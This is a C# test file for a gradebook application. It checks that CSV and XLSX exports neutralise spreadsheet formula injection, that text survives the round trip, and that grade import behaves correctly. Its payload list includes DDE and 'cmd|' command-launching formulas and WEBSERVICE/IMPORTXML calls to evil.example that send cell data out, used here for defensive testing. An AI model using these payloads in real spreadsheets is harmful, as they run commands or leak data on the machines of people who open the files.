using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;
using Amphi.Assessment.Grades;
using Amphi.Organisations;
using Amphi.Tests.Theatre;
using MiniExcelLibs;

namespace Amphi.Tests.Assessment.Grades;

/// <summary>T18: no cell of an export is a formula, and the text is the same when it comes back.</summary>
public sealed class GradebookFileTests
{
    private static readonly string[] Starts = ["=", "+", "-", "@", "\t=", "\r=", "'=", "|", "%", "＝", "＋", "＠"];
    private static readonly string[] Bodies =
    [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example\",\"ici\")",
        "SUM(A1:A9)",
        "WEBSERVICE(\"https://evil.example/\"&A1)",
        "DDE(\"cmd\",\"/C calc\",\"x\")",
        "IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")",
        "\"quoted\",=2",
        "2+5,\r\n=3",
        "é;ligne",
    ];

    private static readonly string[] Formulas = [.. Starts.SelectMany(start => Bodies.Select(body => start + body))];

    [Fact]
    public async Task No_cell_of_a_csv_can_run_and_its_text_comes_back()
    {
        using var file = new MemoryStream();
        await GradebookFile.WriteCsv(Rows(), file);

        file.Position = 0;
        var cells = file.Query(excelType: ExcelType.CSV).Cast<IDictionary<string, object?>>().Select(row => (string)row["B"]!).ToList();
        file.Position = 0;

        Assert.Equal(120, Formulas.Length);
        Assert.DoesNotContain(cells, Runs);
        Assert.Contains(cells.Append("=1+1"), Runs);
        Assert.Equal(Formulas.Select(Read), GradebookFile.Read(file).Select(row => Read(row[1])));
    }

    [Theory]
    [InlineData(1252, ";")]
    [InlineData(65001, ";")]
    [InlineData(65001, ",")]
    public void A_csv_is_read_as_a_french_spreadsheet_saves_it_too(int page, string sign)
    {
        var encoding = CodePagesEncodingProvider.Instance.GetEncoding(page) ?? Encoding.UTF8;
        var text = $"Place{sign}\"Leçon, 3; été [l3]\"\r\n12{sign}\"87,5\"\r\n";
        using var file = new MemoryStream([.. encoding.GetPreamble(), .. encoding.GetBytes(text)]);

        Assert.Equal(
            [
                ["Place", "Leçon, 3; été [l3]"],
                ["12", "87,5"],
            ],
            GradebookFile.Read(file)
        );
    }

    [Fact]
    public async Task No_cell_of_a_spreadsheet_is_a_formula_and_its_text_comes_back()
    {
        using var file = new MemoryStream();
        await GradebookFile.WriteXlsx(Rows(), file);

        Assert.DoesNotContain(SheetsOf(file), IsFormula);
        Assert.Contains(SheetsOf(file).Append("<c><f>1+1</f></c>"), IsFormula);
        file.Position = 0;
        Assert.Equal(Formulas.Select(Read), GradebookFile.Read(file).Select(row => Read(row[1])));
    }

    [Theory, MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task What_is_changed_in_a_downloaded_gradebook_is_set_when_it_comes_back(string engine)
    {
        await using var amphi = await Amphitheatre.Open(engine);
        var school = await School.Open(amphi);
        using var amina = await amphi.SignedIn("Amina");
        await amina.Enrol();
        await school.Mark(await school.Only(), ("q1", 800));
        using var teodora = await amphi.SignedIn("Teodora", Role.Teacher);
        var book = $"/c/{school.Code}/gradebook";

        var csv = (await teodora.Visit($"{book}.csv")).Html;
        var changed = csv.Trim('\ufeff').Replace(",80,,", ",80,12.5,X", StringComparison.Ordinal);
        var same = await Bring(teodora, book, csv, "keep");
        var seen = await Bring(teodora, book, changed, "look");
        var before = await amphi.Count<MarkChange>();
        var kept = await Bring(teodora, book, changed, "keep");
        var again = await Bring(teodora, book, changed, "keep");
        var wrong = await Bring(teodora, book, changed.Replace("12.5", "=1", StringComparison.Ordinal), "keep");
        var broken = await Bring(teodora, book, "PK nonsense", "keep");
        var learner = await Bring(amina, book, changed, "keep");
        var result = await amina.Visit($"/c/{school.Code}/result");
        var xlsx = await teodora.Send(new HttpRequestMessage(HttpMethod.Get, $"{book}.xlsx"));

        Assert.Contains("\"Leçon 3 [l3]\"", csv, StringComparison.Ordinal);
        Assert.Contains("0 note changée", same, StringComparison.Ordinal);
        Assert.Contains("2 notes changeraient", seen, StringComparison.Ordinal);
        Assert.Equal(0, before);
        Assert.Contains("2 notes changées", kept, StringComparison.Ordinal);
        Assert.Contains("0 note changée", again, StringComparison.Ordinal);
        Assert.Contains("n’est pas une note", wrong, StringComparison.Ordinal);
        Assert.Contains("ni un CSV ni un XLSX", broken, StringComparison.Ordinal);
        Assert.DoesNotContain("changée", learner, StringComparison.Ordinal);
        Assert.Contains("Dispensé", result.Text, StringComparison.Ordinal);
        Assert.Equal(2, await amphi.Count<MarkChange>());
        using var bytes = new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));
        Assert.Equal("80", GradebookFile.Read(bytes).ElementAt(1)[4]);
    }

    private static async Task<string> Bring(Browser browser, string book, string csv, string what)
    {
        var word = (await browser.Visit("/me")).Find("input[name=_word]")!.GetAttribute("value")!;
        var form = new MultipartFormDataContent
        {
            { new StringContent(word), "_word" },
            { new StringContent(what), "do" },
            { new StringContent("Notes relues"), "reason" },
        };
        var file = new ByteArrayContent(Encoding.UTF8.GetBytes(csv));
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        form.Add(file, "file", "notes.csv");
        var request = new HttpRequestMessage(HttpMethod.Post, $"{book}/import") { Content = form };
        request.Headers.Add("Sec-Fetch-Site", "same-origin");
        return await (await browser.Send(request)).Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
    }

    // Neither format keeps which kind of line end it was.
    private static string Read(string text) => text.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n');

    private static bool Runs(string cell) => cell.Length > 0 && "=+-@\t\r\n|%＝＋－＠".Contains(cell[0], StringComparison.Ordinal);

    private static bool IsFormula(string xml) => xml.Contains("<f>", StringComparison.Ordinal) || xml.Contains(":f>", StringComparison.Ordinal);

    private static List<string> SheetsOf(MemoryStream file)
    {
        file.Position = 0;
        using var archive = new ZipArchive(file, ZipArchiveMode.Read, leaveOpen: true);
        return
        [
            .. archive
                .Entries.Where(entry => entry.FullName.Contains("sheet", StringComparison.Ordinal))
                .Select(entry =>
                {
                    using var reader = new StreamReader(entry.Open());
                    return reader.ReadToEnd();
                }),
        ];
    }

    private static async IAsyncEnumerable<IEnumerable<object?>> Rows()
    {
        await Task.CompletedTask;
        for (var n = 0; n < Formulas.Length; n++)
            yield return [n, Formulas[n], 87.5m, null];
    }
}
